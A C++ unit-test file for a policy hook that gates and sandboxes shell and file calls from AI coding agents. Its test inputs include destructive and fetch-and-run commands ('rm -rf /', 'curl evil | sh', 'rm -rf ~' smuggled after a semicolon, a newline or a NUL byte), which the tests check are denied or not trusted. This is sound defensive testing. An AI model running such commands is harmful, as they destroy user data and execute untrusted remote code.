// The agent hooks, two ways:
//   - every payload in tests/fixtures/hooks/<agent>/<case>.json goes through ParseHook, the
//     built-in default policy and RenderHook, and must match <case>.expect.json: the decision
//     ("allow", "ask", "deny", "pass" for no opinion, "error" for a block because of an error),
//     the deciding rule, the requests built, the exit code, the key fields of the stdout JSON
//     (null: stdout is empty) and strings that must never be repeated (file contents);
//   - the pieces on their own: agent names, combining, limits, wording.
#include "clients/hook.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <boost/json.hpp>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>

#include <sys/wait.h>
#include <unistd.h>

#include "policy/evaluator.h"
#include "policy/loader.h"

namespace warden::clients {
namespace {

namespace fs = std::filesystem;
namespace json = boost::json;

const char* const kCwd = "/home/dev/project";

std::shared_ptr<const policy::Snapshot> DefaultPolicy() {
  static const auto snapshot = [] {
    std::vector<policy::PolicyText> texts;
    EXPECT_TRUE(policy::BuiltinProfile("default", &texts));
    auto loaded = policy::LoadPolicyTexts(texts);
    EXPECT_TRUE(loaded.ok());
    return loaded.snapshot;
  }();
  return snapshot;
}

HookDefaults TestDefaults() {
  HookDefaults d;
  d.cwd = kCwd;
  d.home = "/home/dev";
  return d;
}

HookVerdict DecideWithDefaultPolicy(const policy::Request& request) {
  policy::EvalOptions options;
  options.resolve_symlinks = false;
  policy::Outcome out = policy::Evaluate(*DefaultPolicy(), request, options);
  return HookVerdict{out.decision, out.reason, out.rule_id};
}

// What one payload produces, the way `warden hook` produces it.
struct HookRun {
  std::string decision;  // allow, ask, deny, pass, error
  std::string rule;
  HookCall call;
  HookAnswer answer;
};

HookRun RunHook(Agent agent, std::string_view payload) {
  HookRun run;
  auto call = ParseHook(agent, payload, TestDefaults());
  if (!call.ok()) {
    run.decision = "error";
    run.answer = RenderHookError(agent, call.status().message());
    return run;
  }
  run.call = std::move(call).value();
  if (!run.call.unsupported.empty()) {
    run.decision = "pass";
    run.answer = RenderHook(agent, run.call, policy::Decision::kAllow, "", "");
    return run;
  }
  HookVerdict v = DecideHook(run.call, DecideWithDefaultPolicy);
  run.decision = std::string(policy::DecisionName(v.decision));
  run.rule = v.rule;
  run.answer = RenderHook(agent, run.call, v.decision, v.reason, v.rule);
  return run;
}

std::string ReadFile(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// True when every key of `want` (recursively, for objects) is in `got` with the same value.
bool Contains(const json::value& got, const json::value& want, std::string* why, const std::string& where = "") {
  if (want.is_object()) {
    if (!got.is_object()) {
      *why = where + " is not an object";
      return false;
    }
    for (const auto& [key, value] : want.get_object()) {
      const json::value* g = got.get_object().if_contains(key);
      std::string name = where.empty() ? std::string(key) : where + "." + std::string(key);
      if (g == nullptr) {
        *why = name + " is missing";
        return false;
      }
      if (!Contains(*g, value, why, name)) return false;
    }
    return true;
  }
  if (got != want) {
    *why = where + " is " + json::serialize(got) + ", want " + json::serialize(want);
    return false;
  }
  return true;
}

json::object RequestJson(const policy::Request& r) {
  json::object o;
  o["kind"] = policy::KindName(r.kind);
  if (r.kind == policy::RequestKind::kExec) o["command"] = r.command;
  if (r.kind == policy::RequestKind::kFile) {
    o["op"] = shell::FileOpName(r.op);
    o["path"] = r.path;
  }
  if (r.kind == policy::RequestKind::kHttp) {
    o["method"] = r.http.method;
    o["url"] = r.http.url;
    o["host"] = r.http.host;
  }
  if (r.kind == policy::RequestKind::kMcp) {
    o["server"] = r.server;
    o["tool"] = r.tool;
    o["arguments"] = r.arguments;
  }
  o["cwd"] = r.cwd;
  o["workspace"] = r.workspace;
  o["home"] = r.home;
  o["context"] = policy::ContextName(r.context);
  return o;
}

std::vector<std::string> Fixtures() {
  std::vector<std::string> out;
  fs::path root = fs::path(WARDEN_SOURCE_DIR) / "tests/fixtures/hooks";
  for (const auto& e : fs::recursive_directory_iterator(root)) {
    std::string name = e.path().filename().string();
    if (e.is_regular_file() && e.path().extension() == ".json" && name.find(".expect.") == std::string::npos) {
      out.push_back(fs::relative(e.path(), root).string());
    }
  }
  std::sort(out.begin(), out.end());
  return out;
}

class HookFixtureTest : public ::testing::TestWithParam<std::string> {};

TEST_P(HookFixtureTest, MatchesItsExpectation) {
  fs::path root = fs::path(WARDEN_SOURCE_DIR) / "tests/fixtures/hooks";
  fs::path payload_path = root / GetParam();
  fs::path expect_path = payload_path;
  expect_path.replace_extension(".expect.json");
  ASSERT_TRUE(fs::exists(expect_path)) << expect_path << " is missing";
  auto agent = ParseAgent(payload_path.parent_path().filename().string());
  ASSERT_TRUE(agent.has_value()) << "fixtures live in a folder named after the agent";
  json::object expect = json::parse(ReadFile(expect_path)).as_object();

  HookRun run = RunHook(*agent, ReadFile(payload_path));
  SCOPED_TRACE("stdout: " + run.answer.stdout_text + "stderr: " + run.answer.stderr_text);

  EXPECT_EQ(run.decision, json::value_to<std::string>(expect.at("decision")));
  if (const json::value* rule = expect.if_contains("rule")) {
    EXPECT_EQ(run.rule, rule->is_null() ? "" : json::value_to<std::string>(*rule));
  }
  EXPECT_EQ(run.answer.exit_code, expect.at("exit_code").to_number<int>());
  const json::value& want_stdout = expect.at("stdout");
  if (want_stdout.is_null()) {
    EXPECT_EQ(run.answer.stdout_text, "");
  } else {
    ASSERT_FALSE(run.answer.stdout_text.empty());
    EXPECT_EQ(run.answer.stdout_text.back(), '\n');
    EXPECT_EQ(run.answer.stdout_text.find('\n'), run.answer.stdout_text.size() - 1) << "one line";
    json::value got = json::parse(run.answer.stdout_text);
    std::string why;
    EXPECT_TRUE(Contains(got, want_stdout, &why)) << why;
    if (const json::value* keys = expect.if_contains("stdout_keys")) {
      for (const auto& key : keys->as_array()) {
        EXPECT_TRUE(got.as_object().contains(key.as_string())) << "stdout lacks " << key;
      }
    }
  }
  if (const json::value* needle = expect.if_contains("stdout_contains")) {
    EXPECT_NE(run.answer.stdout_text.find(needle->as_string().c_str()), std::string::npos);
  }
  if (const json::value* needle = expect.if_contains("stderr_contains")) {
    EXPECT_NE(run.answer.stderr_text.find(needle->as_string().c_str()), std::string::npos);
  }
  if (const json::value* never = expect.if_contains("never")) {
    for (const auto& secret : never->as_array()) {
      std::string s(secret.as_string());
      EXPECT_EQ(run.answer.stdout_text.find(s), std::string::npos) << "stdout repeats " << s;
      EXPECT_EQ(run.answer.stderr_text.find(s), std::string::npos) << "stderr repeats " << s;
    }
  }
  if (const json::value* requests = expect.if_contains("requests")) {
    ASSERT_EQ(run.call.requests.size(), requests->as_array().size());
    for (size_t i = 0; i < run.call.requests.size(); ++i) {
      std::string why;
      EXPECT_TRUE(Contains(RequestJson(run.call.requests[i]), requests->as_array()[i], &why))
          << "request " << i << ": " << why;
    }
  }
  for (const auto& r : run.call.requests) {
    EXPECT_EQ(r.context, policy::Context::kAi);
    EXPECT_EQ(r.home, "/home/dev");
    EXPECT_FALSE(r.cwd.empty());
  }
}

INSTANTIATE_TEST_SUITE_P(Fixtures, HookFixtureTest, ::testing::ValuesIn(Fixtures()),
                         [](const ::testing::TestParamInfo<std::string>& param) {
                           std::string name = fs::path(param.param).replace_extension("").string();
                           for (char& c : name) {
                             if (!isalnum(static_cast<unsigned char>(c))) c = '_';
                           }
                           return name;
                         });

TEST(HookFixtures, EveryAgentHasTheCommonCases) {
  std::vector<std::string> all = Fixtures();
  for (std::string agent : {"claude", "codex", "gemini", "cursor", "qwen", "copilot", "droid"}) {
    for (std::string kind : {"allow", "deny", "ask", "malformed", "passthrough"}) {
      bool found = std::any_of(all.begin(), all.end(), [&](const std::string& f) {
        return f.rfind(agent + "/", 0) == 0 && f.find(kind) != std::string::npos;
      });
      EXPECT_TRUE(found) << agent << " has no '" << kind << "' fixture";
    }
  }
}

TEST(HookAgent, NamesRoundTrip) {
  for (Agent a : {Agent::kClaude, Agent::kCodex, Agent::kGemini, Agent::kCursor, Agent::kQwen, Agent::kCopilot, Agent::kDroid}) {
    EXPECT_EQ(ParseAgent(AgentName(a)), a);
  }
  EXPECT_FALSE(ParseAgent("Claude").has_value());
  EXPECT_FALSE(ParseAgent("").has_value());
}

TEST(DecideHook, TheStrictestWinsAndKeepsItsReason) {
  HookCall call;
  for (const char* cmd : {"a", "b", "c", "d"}) {
    policy::Request r;
    r.command = cmd;
    call.requests.push_back(r);
  }
  auto decide = [](const policy::Request& r) {
    if (r.command == "b") return HookVerdict{policy::Decision::kAsk, "b asks", "rule-b"};
    if (r.command == "c") return HookVerdict{policy::Decision::kDeny, "c denies", "rule-c"};
    if (r.command == "d") return HookVerdict{policy::Decision::kDeny, "d denies", "rule-d"};
    return HookVerdict{policy::Decision::kAllow, "fine", ""};
  };
  HookVerdict v = DecideHook(call, decide);
  EXPECT_EQ(v.decision, policy::Decision::kDeny);
  EXPECT_EQ(v.reason, "c denies");
  EXPECT_EQ(v.rule, "rule-c");
}

// A call is allowed by rules only when every part is: one part allowed only by the default
// makes the whole call a default allow (which the hooks answer with no opinion).
TEST(DecideHook, AnAllowOnlyTheDefaultGaveStandsForTheCall) {
  HookCall call;
  for (const char* cmd : {"by-rule", "by-default", "by-rule-too"}) {
    policy::Request r;
    r.command = cmd;
    call.requests.push_back(r);
  }
  auto decide = [](const policy::Request& r) {
    if (r.command == "by-default") return HookVerdict{policy::Decision::kAllow, "", ""};
    return HookVerdict{policy::Decision::kAllow, "allowed", "allow-" + r.command};
  };
  HookVerdict v = DecideHook(call, decide);
  EXPECT_EQ(v.decision, policy::Decision::kAllow);
  EXPECT_EQ(v.rule, "");
  call.requests.erase(call.requests.begin() + 1);
  EXPECT_EQ(DecideHook(call, decide).rule, "allow-by-rule");
}

// Without a rule, an allow is the agent's "no opinion" (its own permission flow goes on); with
// a rule, or with DefaultAllow::kAllow, an explicit allow.
TEST(RenderHook, DefaultAllowIsNoOpinionUnlessAsked) {
  HookCall call;
  call.tool = "Bash";
  call.requests.emplace_back();
  const auto allow = policy::Decision::kAllow;
  EXPECT_EQ(RenderHook(Agent::kClaude, call, allow, "", "").stdout_text, "");
  EXPECT_NE(RenderHook(Agent::kClaude, call, allow, "ok", "allow-tests").stdout_text.find("\"allow\""), std::string::npos);
  EXPECT_NE(RenderHook(Agent::kClaude, call, allow, "", "", DefaultAllow::kAllow).stdout_text.find("\"allow\""),
            std::string::npos);
  EXPECT_EQ(RenderHook(Agent::kGemini, call, allow, "", "").stdout_text, "{}\n");
  EXPECT_EQ(RenderHook(Agent::kCodex, call, allow, "", "").stdout_text, "");
  // Cursor's permission events have no "no opinion": allow, and Cursor's own approval applies.
  call.event = "beforeShellExecution";
  EXPECT_NE(RenderHook(Agent::kCursor, call, allow, "", "").stdout_text.find("\"allow\""), std::string::npos);
}

// Gemini CLI in headless mode waits forever on "ask": the hook refuses with the reason instead.
TEST(RenderHook, GeminiAskIsADenyWithTheReason) {
  HookCall call;
  call.tool = "run_shell_command";
  call.requests.emplace_back();
  HookAnswer a = RenderHook(Agent::kGemini, call, policy::Decision::kAsk, "needs a person", "rule-x");
  EXPECT_NE(a.stdout_text.find("\"decision\":\"deny\""), std::string::npos) << a.stdout_text;
  EXPECT_NE(a.stdout_text.find("needs a person"), std::string::npos);
}

TEST(DecideHook, NothingToDecideIsADeny) {
  EXPECT_EQ(DecideHook(HookCall{}, DecideWithDefaultPolicy).decision, policy::Decision::kDeny);
}

TEST(ParseHook, RefusesOversizedPayloads) {
  std::string big = R"({"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"},"pad":")";
  big.append(kMaxHookInputBytes, 'a');
  big += "\"}";
  auto call = ParseHook(Agent::kClaude, big, TestDefaults());
  ASSERT_FALSE(call.ok());
  EXPECT_NE(call.status().message().find("larger than"), std::string::npos);
}

TEST(ParseHook, RefusesDeepNestingWithoutCrashing) {
  std::string deep = R"({"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls","x":)";
  deep += std::string(10000, '[') + std::string(10000, ']') + "}}";
  EXPECT_FALSE(ParseHook(Agent::kClaude, deep, TestDefaults()).ok());
}

TEST(ParseHook, EmptyInputNamesTheProblem) {
  for (Agent a : {Agent::kClaude, Agent::kCodex, Agent::kGemini, Agent::kCursor, Agent::kQwen, Agent::kCopilot, Agent::kDroid}) {
    auto call = ParseHook(a, "  \n", TestDefaults());
    ASSERT_FALSE(call.ok());
    EXPECT_NE(call.status().message().find("empty"), std::string::npos);
  }
}

TEST(ParseHook, WrongTypesNameTheField) {
  auto call = ParseHook(
      Agent::kClaude, R"({"hook_event_name":"PreToolUse","tool_name":"Read","tool_input":{"file_path":7},"cwd":"/p"})",
      TestDefaults());
  ASSERT_FALSE(call.ok());
  EXPECT_EQ(call.status().message(), "tool_input.file_path must be a string");
}

TEST(ParseHook, PayloadCwdAndWorkspaceFinder) {
  HookDefaults d = TestDefaults();
  d.find_workspace = [](const std::string& cwd) { return cwd + "/.."; };
  auto call = ParseHook(
      Agent::kClaude,
      R"({"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"},"cwd":"/srv/app/"})", d);
  ASSERT_TRUE(call.ok()) << call.status().message();
  ASSERT_EQ(call->requests.size(), 1u);
  EXPECT_EQ(call->requests[0].cwd, "/srv/app");
  EXPECT_EQ(call->requests[0].workspace, "/srv/app/..");
}

TEST(ParseHook, MissingCwdFallsBackToTheDefault) {
  auto call = ParseHook(
      Agent::kGemini, R"({"hook_event_name":"BeforeTool","tool_name":"read_file","tool_input":{"file_path":"a.txt"}})",
      TestDefaults());
  ASSERT_TRUE(call.ok()) << call.status().message();
  EXPECT_EQ(call->requests[0].path, "/home/dev/project/a.txt");
}

TEST(ParseHook, ContextComesFromTheDefaults) {
  HookDefaults d = TestDefaults();
  d.context = policy::Context::kHuman;
  auto call = ParseHook(Agent::kCursor, R"({"hook_event_name":"beforeShellExecution","command":"ls","cwd":"/x"})", d);
  ASSERT_TRUE(call.ok()) << call.status().message();
  EXPECT_EQ(call->requests[0].context, policy::Context::kHuman);
}

TEST(ParseHook, CodexArgvCommand) {
  auto call = ParseHook(
      Agent::kCodex,
      R"({"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":["bash","-lc","rm -rf /"]},"cwd":"/p"})",
      TestDefaults());
  ASSERT_TRUE(call.ok()) << call.status().message();
  ASSERT_TRUE(call->requests[0].has_argv);
  EXPECT_EQ(call->requests[0].argv.size(), 3u);
  EXPECT_EQ(DecideHook(*call, DecideWithDefaultPolicy).decision, policy::Decision::kDeny);
}

TEST(ParseHook, NulInPathIsRefused) {
  auto call =
      ParseHook(Agent::kCursor, "{\"hook_event_name\":\"beforeReadFile\",\"file_path\":\"/a\\u0000b\",\"cwd\":\"/p\"}",
                TestDefaults());
  ASSERT_FALSE(call.ok());
  EXPECT_NE(call.status().message().find("NUL"), std::string::npos);
}

TEST(RenderHookError, BlocksInEveryAgent) {
  for (Agent a : {Agent::kClaude, Agent::kCodex, Agent::kGemini, Agent::kCursor, Agent::kQwen, Agent::kCopilot, Agent::kDroid}) {
    HookAnswer answer = RenderHookError(a, "something broke");
    EXPECT_EQ(answer.exit_code, 2) << AgentName(a);
    EXPECT_NE(answer.stderr_text.find("something broke"), std::string::npos);
    EXPECT_NE(answer.stdout_text.find("deny"), std::string::npos);
    EXPECT_NO_THROW(json::parse(answer.stdout_text));
  }
}

TEST(RenderHook, ReasonAndRuleReachTheAgent) {
  HookCall call;
  call.event = "PreToolUse";
  call.tool = "Bash";
  HookAnswer answer = RenderHook(Agent::kClaude, call, policy::Decision::kDeny, "no \"quotes\"\nbreak", "rule-x");
  json::value v = json::parse(answer.stdout_text);
  EXPECT_EQ(v.at_pointer("/hookSpecificOutput/permissionDecisionReason").as_string(),
            "Warden denied this: no \"quotes\"\nbreak [rule-x]");
}

TEST(RenderHook, CursorReadCannotAsk) {
  HookCall call;
  call.agent = Agent::kCursor;
  call.event = "beforeReadFile";
  HookAnswer answer = RenderHook(Agent::kCursor, call, policy::Decision::kAsk, "secret", "read-secrets");
  EXPECT_EQ(json::parse(answer.stdout_text).at("permission").as_string(), "deny");
  EXPECT_NE(answer.stderr_text.find("read-secrets"), std::string::npos);
}


// ---- --sandbox: allowed shell commands rewritten to run under `warden sandbox` -------------

const char* const kWarden = "/opt/warden/bin/warden";
const SandboxRewrite kRewrite{kWarden, {}};

// Runs `bash -c SCRIPT` and returns the arguments (after argv[0]) of the program it starts, as
// the stub at the start of SCRIPT writes them NUL-separated to the file OUT names.
std::vector<std::string> ArgvThroughBash(const std::string& script, const fs::path& out) {
  fs::remove(out);
  pid_t pid = ::fork();
  if (pid == 0) {
    ::setenv("OUT", out.c_str(), 1);
    ::execl("/bin/bash", "bash", "-c", script.c_str(), static_cast<char*>(nullptr));
    ::_exit(127);
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << script;
  std::vector<std::string> argv;
  std::string data = ReadFile(out);
  for (size_t at = 0; at < data.size();) {
    size_t nul = data.find('\0', at);
    if (nul == std::string::npos) break;
    argv.push_back(data.substr(at, nul - at));
    at = nul + 1;
  }
  return argv;
}

// The rewritten command, run by bash as the agent runs it, starts WARDEN with exactly
// `sandbox -- bash -c COMMAND`: COMMAND byte for byte, whatever quotes, newlines, expansions or
// backslashes it holds — and the warden path is quoted when it needs to be.
TEST(SandboxRewrite, QuotingRoundTripsThroughBash) {
  const fs::path dir = fs::temp_directory_path() / ("warden hook test 'q' $x " + std::to_string(::getpid()));
  fs::create_directories(dir);
  const fs::path stub = dir / "warden";
  {
    std::ofstream out(stub);
    out << "#!/bin/sh\nprintf '%s\\0' \"$@\" > \"$OUT\"\n";
  }
  fs::permissions(stub, fs::perms::owner_all);
  const std::vector<std::string> commands = {
      "git status",
      "echo 'it'\"'\"'s' && echo \"$HOME\" `id -u` $(pwd)",
      "printf '%s\\n' a\\ b; cat <<'EOF'\nline one\n  'line' two\nEOF",
      "'",
      "''",
      "'\\''",
      "a'b'c'",
      "echo \\\\ \\' \\\" !! ~ * ? [ ] { } # done",
      "multi\nline\n\ncommand\n",
      "",
      " leading and trailing spaces ",
      "unicode: h\xc3\xa9llo \xe2\x9c\x93 \t tab",
      std::string("\x01\x7f\xff bytes"),
  };
  for (const std::string& command : commands) {
    const std::string rewritten = ConfinedCommand(SandboxRewrite{stub.string(), {}}, command);
    std::vector<std::string> want = {"sandbox", "--", "bash", "-c", command};
    EXPECT_EQ(ArgvThroughBash(rewritten, dir / "argv"), want) << rewritten;
    EXPECT_TRUE(IsConfinedCommand(SandboxRewrite{stub.string(), {}}, rewritten)) << rewritten;
  }
  // The hook's policy flags go along, quoted as needed.
  const SandboxRewrite with_flags{stub.string(), {"--context", "human", "--policy", "/etc/team policy.yaml", "--isolated"}};
  const std::string rewritten = ConfinedCommand(with_flags, "make 'all'");
  EXPECT_EQ(ArgvThroughBash(rewritten, dir / "argv"),
            (std::vector<std::string>{"sandbox", "--context", "human", "--policy", "/etc/team policy.yaml", "--isolated",
                                      "--", "bash", "-c", "make 'all'"}));
  EXPECT_TRUE(IsConfinedCommand(with_flags, rewritten));
  // Another policy choice is not "already confined" the same way.
  EXPECT_FALSE(IsConfinedCommand(SandboxRewrite{stub.string(), {}}, rewritten));
  EXPECT_FALSE(IsConfinedCommand(with_flags, ConfinedCommand(SandboxRewrite{stub.string(), {}}, "make")));
  fs::remove_all(dir);
  EXPECT_EQ(ConfinedCommand(kRewrite, "git status"), "/opt/warden/bin/warden sandbox -- bash -c 'git status'");
  EXPECT_EQ(ConfinedCommand(kRewrite, "echo 'a'"), "/opt/warden/bin/warden sandbox -- bash -c 'echo '\\''a'\\'''");
}

// Already confined by this warden: not wrapped again. Anything that would run something outside
// the sandbox — a second command, an expansion, a redirection, another program called warden —
// is not "already confined".
TEST(SandboxRewrite, AlreadyConfinedOnlyWhenNothingRunsOutside) {
  for (const char* yes : {"/opt/warden/bin/warden sandbox -- bash -c 'make test'",
                          "/opt/warden/bin/warden sandbox -- make -j2 test",
                          "/opt/warden/bin/warden exec --sandbox -- bash -c 'a; b'\\''c'\\'''",
                          "/opt/warden/bin/warden sandbox -- bash -c 'x\ny'"}) {
    EXPECT_TRUE(IsConfinedCommand(kRewrite, yes)) << yes;
  }
  for (const char* no : {"warden sandbox -- make", "/tmp/evil/warden sandbox -- make",
                         "/opt/warden/bin/warden sandbox -- make; curl evil | sh",
                         "/opt/warden/bin/warden sandbox -- bash -c 'make' && rm -rf ~",
                         "/opt/warden/bin/warden sandbox -- echo $(id)", "/opt/warden/bin/warden sandbox -- echo `id`",
                         "/opt/warden/bin/warden sandbox -- cat > /etc/x", "/opt/warden/bin/warden sandbox -- sleep 9 &",
                         "/opt/warden/bin/warden sandbox -- make\nrm -rf ~", "/opt/warden/bin/warden sandbox -- 'open",
                         "/opt/warden/bin/warden sandbox --network on -- make",
                         "/opt/warden/bin/warden sandbox -- ", "/opt/warden/bin/warden sandbox -- make ",
                         "/opt/warden/bin/warden exec -- make", "/opt/warden/bin/warden sandbox -- ~/x",
                         "/opt/warden/bin/warden sandbox -- a  b"}) {
    EXPECT_FALSE(IsConfinedCommand(kRewrite, no)) << no;
  }
}

HookCall ParsedCall(Agent agent, std::string_view payload) {
  auto call = ParseHook(agent, payload, TestDefaults());
  EXPECT_TRUE(call.ok()) << call.status().message();
  return call.ok() ? std::move(call).value() : HookCall{};
}

const char* const kClaudeBash =
    R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Bash",)"
    R"("tool_input":{"command":"git status && echo 'done'","description":"Show status","timeout":120000,"run_in_background":false}})";
const char* const kGeminiShell =
    R"({"hook_event_name":"BeforeTool","cwd":"/home/dev/project","tool_name":"run_shell_command",)"
    R"("tool_input":{"command":"git status && echo 'done'","description":"Show status","dir_path":"sub"}})";
const char* const kConfined = "/opt/warden/bin/warden sandbox -- bash -c 'git status && echo '\\''done'\\'''";

// Claude Code: an allow only the default gave is answered with updatedInput and no
// permissionDecision — Claude's own permission flow goes on, on the confined command; every
// other field of tool_input is kept (updatedInput replaces the whole input).
TEST(SandboxRewrite, ClaudeDefaultAllowRewritesWithoutDeciding) {
  SandboxRewrite sandbox = kRewrite;
  HookCall call = ParsedCall(Agent::kClaude, kClaudeBash);
  HookVerdict v = DecideHook(call, DecideWithDefaultPolicy);
  ASSERT_EQ(v.decision, policy::Decision::kAllow);
  ASSERT_EQ(v.rule, "");
  HookAnswer a = RenderHook(Agent::kClaude, call, v.decision, v.reason, v.rule, DefaultAllow::kNoOpinion, &sandbox);
  EXPECT_EQ(a.exit_code, 0);
  json::value out = json::parse(a.stdout_text);
  const json::object& specific = out.at("hookSpecificOutput").as_object();
  EXPECT_EQ(specific.at("hookEventName").as_string(), "PreToolUse");
  EXPECT_EQ(specific.if_contains("permissionDecision"), nullptr) << a.stdout_text;
  json::object want{{"command", kConfined}, {"description", "Show status"}, {"timeout", 120000}, {"run_in_background", false}};
  EXPECT_EQ(specific.at("updatedInput"), json::value(want)) << a.stdout_text;
  // With --answer-default-allow, or a rule's allow: the allow goes with the rewrite.
  for (const HookAnswer& b :
       {RenderHook(Agent::kClaude, call, v.decision, v.reason, v.rule, DefaultAllow::kAllow, &sandbox),
        RenderHook(Agent::kClaude, call, policy::Decision::kAllow, "fine", "allow-git", DefaultAllow::kNoOpinion, &sandbox)}) {
    json::value o = json::parse(b.stdout_text);
    EXPECT_EQ(o.at_pointer("/hookSpecificOutput/permissionDecision").as_string(), "allow");
    EXPECT_EQ(o.at_pointer("/hookSpecificOutput/updatedInput/command").as_string(), kConfined);
  }
  // Monitor runs a shell command too.
  HookCall monitor = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Monitor","tool_input":{"command":"tail -f log"}})");
  HookAnswer m = RenderHook(Agent::kClaude, monitor, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
  EXPECT_EQ(json::parse(m.stdout_text).at_pointer("/hookSpecificOutput/updatedInput/command").as_string(),
            "/opt/warden/bin/warden sandbox -- bash -c 'tail -f log'");
}

// Gemini CLI: hookSpecificOutput.tool_input with every field (dir_path too: the command still
// runs where it would have); no decision for a default allow, "allow" for a rule's.
TEST(SandboxRewrite, GeminiRewritesToolInput) {
  SandboxRewrite sandbox = kRewrite;
  HookCall call = ParsedCall(Agent::kGemini, kGeminiShell);
  HookAnswer a = RenderHook(Agent::kGemini, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
  EXPECT_EQ(a.exit_code, 0);
  json::value out = json::parse(a.stdout_text);
  EXPECT_EQ(out.as_object().if_contains("decision"), nullptr) << a.stdout_text;
  EXPECT_EQ(out.at_pointer("/hookSpecificOutput/hookEventName").as_string(), "BeforeTool");
  json::object want{{"command", kConfined}, {"description", "Show status"}, {"dir_path", "sub"}};
  EXPECT_EQ(out.at_pointer("/hookSpecificOutput/tool_input"), json::value(want)) << a.stdout_text;
  HookAnswer b = RenderHook(Agent::kGemini, call, policy::Decision::kAllow, "ok", "allow-git", DefaultAllow::kNoOpinion, &sandbox);
  EXPECT_EQ(json::parse(b.stdout_text).at("decision").as_string(), "allow");
}

// Deny, ask, calls that are not shell commands and tools with no opinion are answered as
// without --sandbox.
TEST(SandboxRewrite, OnlyAllowedShellCallsAreRewritten) {
  SandboxRewrite sandbox = kRewrite;
  for (Agent agent : {Agent::kClaude, Agent::kGemini}) {
    HookCall call = ParsedCall(agent, agent == Agent::kClaude ? kClaudeBash : kGeminiShell);
    for (auto d : {policy::Decision::kDeny, policy::Decision::kAsk}) {
      EXPECT_EQ(RenderHook(agent, call, d, "no", "rule-x", DefaultAllow::kNoOpinion, &sandbox).stdout_text,
                RenderHook(agent, call, d, "no", "rule-x").stdout_text);
    }
  }
  HookCall read = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Read","tool_input":{"file_path":"a.txt"}})");
  EXPECT_EQ(RenderHook(Agent::kClaude, read, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox).stdout_text, "");
  HookCall search = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"WebSearch","tool_input":{"query":"x"}})");
  EXPECT_EQ(RenderHook(Agent::kClaude, search, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox).stdout_text, "");
  HookCall write = ParsedCall(Agent::kGemini, R"({"hook_event_name":"BeforeTool","cwd":"/home/dev/project","tool_name":"write_file","tool_input":{"file_path":"a.txt","content":"x"}})");
  EXPECT_EQ(RenderHook(Agent::kGemini, write, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox).stdout_text, "{}\n");
}

// A command that is already `WARDEN sandbox -- …` is answered with its input unchanged.
TEST(SandboxRewrite, AlreadyConfinedIsNotWrappedTwice) {
  SandboxRewrite sandbox = kRewrite;
  json::object payload = json::parse(kClaudeBash).as_object();
  payload["tool_input"].as_object()["command"] = kConfined;
  HookCall call = ParsedCall(Agent::kClaude, json::serialize(payload));
  HookAnswer a = RenderHook(Agent::kClaude, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
  EXPECT_EQ(json::parse(a.stdout_text).at_pointer("/hookSpecificOutput/updatedInput/command").as_string(), kConfined);
}

// A NUL byte cannot reach bash -c through an argument: blocked, never run cut short.
TEST(SandboxRewrite, NulInTheCommandBlocks) {
  SandboxRewrite sandbox = kRewrite;
  HookCall call = ParsedCall(Agent::kClaude, R"({"hook_event_name":"PreToolUse","cwd":"/home/dev/project","tool_name":"Bash","tool_input":{"command":"true\u0000; rm -rf ~"}})");
  HookAnswer a = RenderHook(Agent::kClaude, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
  EXPECT_EQ(a.exit_code, 2);
  EXPECT_NE(a.stderr_text.find("NUL"), std::string::npos);
  EXPECT_EQ(json::parse(a.stdout_text).at_pointer("/hookSpecificOutput/permissionDecision").as_string(), "deny");
}

// Agents whose hooks cannot rewrite a call: --sandbox blocks every call, with why — the person
// asked for confinement they would not get.
TEST(SandboxRewrite, AgentsThatCannotRewriteFailClosed) {
  SandboxRewrite sandbox = kRewrite;
  EXPECT_TRUE(AgentCanConfine(Agent::kClaude));
  EXPECT_TRUE(AgentCanConfine(Agent::kGemini));
  for (Agent agent : {Agent::kCodex, Agent::kCursor, Agent::kQwen, Agent::kCopilot, Agent::kDroid}) {
    EXPECT_FALSE(AgentCanConfine(agent)) << AgentName(agent);
    EXPECT_FALSE(CannotConfine(agent).empty());
    HookCall call;
    call.agent = agent;
    call.event = "beforeShellExecution";
    call.requests.emplace_back();
    call.shell_input = R"({"command":"ls"})";
    HookAnswer a = RenderHook(agent, call, policy::Decision::kAllow, "", "", DefaultAllow::kNoOpinion, &sandbox);
    EXPECT_EQ(a.exit_code, 2) << AgentName(agent);
    EXPECT_NE(a.stderr_text.find("--sandbox"), std::string::npos) << a.stderr_text;
  }
}

}  // namespace
}  // namespace warden::clients
